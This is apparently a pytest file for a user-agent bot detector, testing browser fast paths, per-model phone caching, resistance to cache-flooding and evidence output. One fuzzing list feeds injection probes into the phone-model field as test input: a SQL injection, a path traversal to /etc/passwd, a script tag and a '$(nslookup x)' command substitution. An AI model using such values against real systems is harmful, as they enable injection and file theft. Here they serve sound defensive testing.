def test_a_model_check_tells_an_edited_weight_from_a_rounding() -> None:
    sys.path.insert(0, str(ROOT / "scripts"))
    try:
        import build_detector
    finally:
        sys.path.remove(str(ROOT / "scripts"))
    shipped = load_model()
    rounded = json.loads(json.dumps(shipped))
    word, score = next((word, score) for word, score in rounded["words"].items() if abs(score) > 0.1)
    rounded["words"][word] = round(score + 0.002, 3)  # two affixes' roundings moved: the same build
    feature = next(iter(rounded["affixes"]))
    rounded["affixes"][feature] = round(rounded["affixes"][feature] - 0.001, 3)
    assert build_detector.differences(json.dumps(rounded), json.dumps(shipped)) == []
    edited = json.loads(json.dumps(shipped))
    edited["rules"]["g:isbot"] = edited["rules"].get("g:isbot", 0.0) + 0.5
    edited["words"].pop(word)
    assert build_detector.differences(json.dumps(edited), json.dumps(shipped)) == ["the known words", f"words[{word!r}]: 0.0 != {score}", f"rules['g:isbot']: {edited['rules']['g:isbot']} != {shipped['rules'].get('g:isbot', 0.0)}"]


_BROWSER_FORMATS = re.compile(own_rules.BROWSER_FORMATS, re.ASCII)
_MAJOR_BROWSERS = [
    CHROME,
    CHROME + " Edg/120.0.0.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 "
    "Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
    "Chrome/131.0.6778.135 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
]


@pytest.mark.parametrize("user_agent", _MAJOR_BROWSERS)
def test_major_browsers_strings_are_passed_at_once(user_agent: str) -> None:
    detect = _shipped()
    assert detect.well_formed(user_agent) is not None
    passes = Config()._passes
    assert passes is not None and passes(user_agent.encode()) is not None
    assert explain(user_agent).verdict is Verdict.NONE


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME + " Zqxwvy/2.4.1",  # a token appended
        CHROME.replace("Chrome/120", "HeadlessChrome/120"),
        CHROME.replace("120.0.0.0", "120.0.0.0 Googlebot/2.1"),
        CHROME.lower(),  # the formats are case-sensitive, as browsers send them
        CHROME.replace("120", "١٢٠"),  # Arabic-Indic digits are not ASCII digits
        " " + CHROME + "'",
    ],
)
def test_anything_but_a_browsers_exact_string_goes_through_the_rules(user_agent: str) -> None:
    detect = _shipped()
    assert detect.well_formed(user_agent.strip()) is None
    assert not _passed_at_once(detect, user_agent.encode("utf-8", "surrogatepass"))


@given(st.one_of(st.from_regex(_BROWSER_FORMATS, fullmatch=True), st.lists(st.sampled_from(_PIECES), max_size=10).map("".join)))
@settings(max_examples=300, deadline=None)
def test_a_raw_header_value_passes_exactly_when_its_text_does(user_agent: str) -> None:
    detect = _shipped()
    raw = user_agent.encode("utf-8", "surrogatepass")
    assert _passed_at_once(detect, raw) is (detect.well_formed(user_agent) is not None)


@given(st.from_regex(_BROWSER_FORMATS, fullmatch=True))
@settings(max_examples=400, deadline=None)
def test_the_browsers_passed_at_once_are_people_by_the_full_evidence_too(user_agent: str) -> None:
    # The shortcut only spares work: the lists and the model, weighed in full, agree.
    detect = _shipped()
    model = load_model()
    assert not detect.weigh(user_agent).blocks(model["threshold_rule"], model["threshold_words"])
    assert detect(user_agent) is None


def test_no_labelled_bot_is_in_a_browsers_exact_format() -> None:
    found = []
    for name in ("ua-bots.tsv.gz", "ua-bots-extra.tsv.gz"):
        with gzip.open(ROOT / "benchmarks" / "data" / name, "rt", encoding="utf-8") as handle:
            rows = csv.reader(handle, delimiter="\t")
            next(rows)
            found += [ua for _, ua in rows if _BROWSER_FORMATS.fullmatch(ua)]
    assert found == []


# -- phones' strings, decided once per model ----------------------------------------------------

_PHONE_FORMAT = re.compile(own_rules.PHONE_FORMAT, re.ASCII)
_VERSION = re.compile(r"\d+\.\d+\.\d+\.\d+")


def _corpus_phones() -> list[str]:
    found = []
    for name in ("ua-humans.tsv.gz", "ua-humans-extra.tsv.gz", "ua-bots.tsv.gz", "ua-bots-extra.tsv.gz"):
        with gzip.open(ROOT / "benchmarks" / "data" / name, "rt", encoding="utf-8") as handle:
            rows = csv.reader(handle, delimiter="\t")
            next(rows)
            found += [ua for _, ua in rows if _PHONE_FORMAT.fullmatch(ua)]
    return found


_PHONES = _corpus_phones()
# Model slots a maker or a bot could write: the corpus's, and names of bots, tools and probes.
_MODELS = st.one_of(
    st.sampled_from(sorted({ua[ua.index("; ", 20) + 2 : ua.index(")")] for ua in _PHONES})),
    st.lists(
        st.sampled_from(["Googlebot", "GPTBot", "bot", "spider", "crawler", "curl", "python-requests", "sqlmap",
                         "HeadlessChrome", "SM-A536B", "Pixel 7", "VR BOT 552", "Build/QP1A", "x", "2",
                         "' OR 1=1 --", "../../etc/passwd", "<script>", "$(nslookup x)", "a@b.com", "http://x.y/"]),
        min_size=1, max_size=3,
    ).map(" ".join),
    st.from_regex(r"[ -'*-:<-~]{1,30}", fullmatch=True),  # whatever the slot takes
)
_VERSIONS = st.lists(st.integers(0, 10**10), min_size=4, max_size=4).map(lambda parts: ".".join(map(str, parts)))


def _phone(model: str, version: str, tail: str = " Mobile Safari/537.36") -> str:
    return f"Mozilla/5.0 (Linux; Android 13; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}{tail}"


def test_the_corpus_phones_get_the_same_verdicts_through_the_remembered_keys() -> None:
    # Every phone's string of the corpus, with a version numbers' digit changed, through the
    # default config's miss path (which remembers the keys of the people's), against the full
    # decision of its text.
    assert len(_PHONES) > 20_000
    config = Config()
    cache = verdict_cache(config)
    chrome = re.compile(r"(Chrome/\d+\.\d+\.\d+\.\d*)(\d)")
    for user_agent in _PHONES:
        for version in (user_agent, chrome.sub(lambda m: m[1] + str((int(m[2]) + 1) % 10), user_agent, count=1)):
            decided = cached_explanation(config, cache, version.encode())
            assert decided.verdict is explain(version).verdict, version


_TAILS = st.sampled_from([" Mobile Safari/537.36", " Safari/537.36 OPR/1.2.3.4", " Mobile Safari/537.36 EdgA/9.9.9.9"])


@given(_MODELS, _VERSIONS, _VERSIONS, _TAILS)
@settings(max_examples=1000, deadline=None)
def test_a_phones_version_numbers_change_no_decision_within_a_length_class(model: str, first: str, second: str, tail: str) -> None:
    # What lets the detector decide a phone's string once per model: in full, the two agree, as
    # long as both are under 128 characters or neither is (the length weighs by class: version
    # numbers ten digits long can tip a weak rule inside a "spider x" model either way).
    one, other = _phone(model, first, tail), _phone(model, second, tail)
    if _PHONE_FORMAT.fullmatch(one) is None or (len(one) >= 128) is not (len(other) >= 128):
        return  # a model the format does not take is decided in full every time
    detect = _shipped()
    decided, again = detect(one), detect(other)
    assert (decided is None) is (again is None)
    if decided is not None and again is not None:
        assert (decided.source, decided.index, decided.category) == (again.source, again.index, again.category)


def test_a_phones_other_versions_are_answered_from_the_raw_bytes_once_one_was_found_a_persons() -> None:
    config = Config()
    cache = verdict_cache(config)
    assert config._passes is not None and config._passed is builtin_ruleset("default").passed
    first, later = _phone("Zqx-Phone 7", "120.0.0.1").encode(), _phone("Zqx-Phone 7", "131.0.9.9").encode()
    shape = config._passes(later)
    assert shape is not None and shape.lastindex is not None
    assert phone_key(shape) not in config._passed  # not before one was decided
    assert cached_explanation(config, cache, first).verdict is Verdict.NONE
    assert phone_key(shape) in config._passed
    assert cached_explanation(config, cache, later) is NO_MATCH
    # Long version numbers put the string in the other length class: decided in full once more.
    longer = _phone("Zqx-Phone 7", "131.0.999999999.9999999999").encode()
    longer_shape = config._passes(longer)
    assert len(longer) >= 128 and longer_shape is not None and phone_key(longer_shape) not in config._passed
    # A bot's model is never remembered: each of its strings is judged, and refused.
    bot = _phone("GPTBot", "120.0.0.1").encode()
    assert cached_explanation(config, cache, bot).verdict is Verdict.BOT
    bot_shape = config._passes(_phone("GPTBot", "131.0.9.9").encode())
    assert bot_shape is not None and phone_key(bot_shape) not in config._passed
    assert classify(_phone("GPTBot", "131.0.9.9").encode()) is Verdict.BOT


def _chrome(version: str) -> bytes:
    return f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36".encode()


def test_a_browsers_exact_string_is_stored_at_once_while_the_cache_has_room() -> None:
    config = Config()
    cache = verdict_cache(config)
    browser = _chrome("120.0.6099.4242")
    before, timed = cache_info(), sum(decision_timing().counts)
    for _ in range(3):
        assert cached_explanation(config, cache, browser) is NO_MATCH
    assert browser in cache
    after = cache_info()
    assert (after.misses - before.misses, after.hits - before.hits) == (1, 2)
    assert sum(decision_timing().counts) == timed  # one match of its bytes: not timed


def test_once_the_cache_is_full_a_browsers_string_is_stored_from_its_second_sighting_on() -> None:
    config = Config(cache_size=2)
    cache = verdict_cache(config)
    for bot in (b"Scrapy/2.11", b"curl/8.4.0"):
        cached_explanation(config, cache, bot)
    browser = _chrome("120.0.6099.4343")
    before = cache_info()
    assert cached_explanation(config, cache, browser) is NO_MATCH
    assert browser not in cache  # seen once: answered, counted as a miss, not stored
    assert cached_explanation(config, cache, browser) is NO_MATCH
    assert browser in cache and b"Scrapy/2.11" not in cache  # seen again: stored
    assert cached_explanation(config, cache, browser) is NO_MATCH
    after = cache_info()
    assert (after.misses - before.misses, after.hits - before.hits) == (2, 1)


def test_a_flood_of_browser_strings_sent_once_leaves_the_cache_to_what_repeats() -> None:
    config = Config(cache_size=8)
    cache = verdict_cache(config)
    bot, phone = b"Scrapy/2.11 (+https://scrapy.org)", _phone("Zqx-Phone 8", "120.0.0.1").encode()
    assert cached_explanation(config, cache, bot).verdict is Verdict.BOT  # judged: stored at once
    assert cached_explanation(config, cache, phone).verdict is Verdict.NONE
    for n in range(1000):  # the cache-busting attack, in the format that is answered from its bytes
        assert cached_explanation(config, cache, _chrome(f"120.0.{n}.77977")) is NO_MATCH
        # A phone already found a person's, with a version never seen: answered from its bytes too.
        assert cached_explanation(config, cache, _phone("Zqx-Phone 8", f"121.0.{n}.77977").encode()) is NO_MATCH
    # The flood filled the room the cache had, and pushed nothing out.
    assert list(cache)[:2] == [bot, phone] and len(cache) == 8
    first = [(_chrome(f"120.0.{n}.77977"), _phone("Zqx-Phone 8", f"121.0.{n}.77977").encode()) for n in range(3)]
    assert list(cache)[2:] == [value for pair in first for value in pair]


def test_what_is_remembered_of_phones_is_bounded() -> None:
    config = Config()
    cache = verdict_cache(config)
    for n in range(PHONES_LIMIT + 100):
        assert cached_explanation(config, cache, _phone(f"Zqx-{n}", "120.0.0.1").encode()).verdict is Verdict.NONE
        assert len(config._passed) <= PHONES_LIMIT


def test_only_the_default_configs_miss_path_remembers_phones() -> None:
    # With a list of the user's, every value is judged, as the user's rules may read its digits.
    config = Config(deny=[r"Chrome/131\."])
    assert config._passes is None
    assert classify(_phone("Zqx-Phone 9", "120.0.0.1").encode(), config) is Verdict.NONE
    assert classify(_phone("Zqx-Phone 9", "131.0.0.1").encode(), config) is Verdict.DENY


@pytest.mark.parametrize(
    ("fields", "verdict"),
    [
        ({"deny": [r"Chrome/120\."]}, Verdict.DENY),
        ({"allow": [r"Windows NT"]}, Verdict.ALLOW),
        ({}, Verdict.NONE),
    ],
)
def test_the_users_lists_still_speak_first_about_a_browsers_string(fields: dict[str, list[str]], verdict: Verdict) -> None:
    config = Config(**fields)  # type: ignore[arg-type]
    assert (config._passes is None) is bool(fields)
    assert classify(CHROME, config) is verdict


def test_a_header_check_still_reads_the_browsers_claim() -> None:
    config = Config(check_headers=True)
    assert config._passes is None
    assert explain(CHROME, config).browser is not None


_AFFIXES = load_model()["affixes"]
_WEIGHED_AFFIXES = sorted({name[2:] for name in _AFFIXES})


@given(st.one_of(st.text("abcdefghijklmnopqrstuvwxyz", min_size=1, max_size=16),
                 st.builds(lambda a, b: a + b, st.sampled_from(_WEIGHED_AFFIXES), st.text("abcdefghijklmnopqrstuvwxyz", max_size=6)),
                 st.builds(lambda a, b: a + b, st.text("abcdefghijklmnopqrstuvwxyz", max_size=6), st.sampled_from(_WEIGHED_AFFIXES))))
def test_an_unseen_word_weighs_what_the_trainer_named_to_the_bit(word: str) -> None:
    # The detector looks affixes up as bytes; the trainer names them (`word_features`).
    named = sum(_AFFIXES.get(feature, 0.0) for feature in word_features(word)[1:])
    assert _Unknown(_AFFIXES)[word.encode("ascii")] == named


@given(st.one_of(st.lists(st.sampled_from(_PIECES + _PROBE_PIECES), max_size=10).map("".join), st.text(max_size=80)))
@settings(max_examples=300, deadline=None)
def test_the_evidence_shown_is_what_decided(user_agent: str) -> None:
    # `evidence()` (what `botguard check --why` prints) tells the decision the detector makes:
    # its features add up to the score, and the score against the threshold is the verdict.
    detect = _shipped()
    text = normalize_user_agent(user_agent)
    evidence = detect.evidence(text)
    decided = detect(text)
    if evidence.step == "browser":
        assert decided is None and not evidence.features
    elif evidence.step == "certain":
        assert decided is not None and decided.source != "model"
    else:
        assert evidence.score is not None and evidence.threshold is not None
        assert evidence.score == pytest.approx(detect.weigh(text).score)
        assert sum(weight for _, weight in evidence.features) == pytest.approx(evidence.score, abs=1e-6)
        reached = evidence.score >= evidence.threshold and not evidence.spoken_for
        assert reached == (decided is not None)
        if decided is not None:  # decided by the rule weighed, or by the words alone
            assert (evidence.rule is None) == (decided.source == "model")
            assert evidence.rule is None or evidence.rule.pattern == decided.pattern
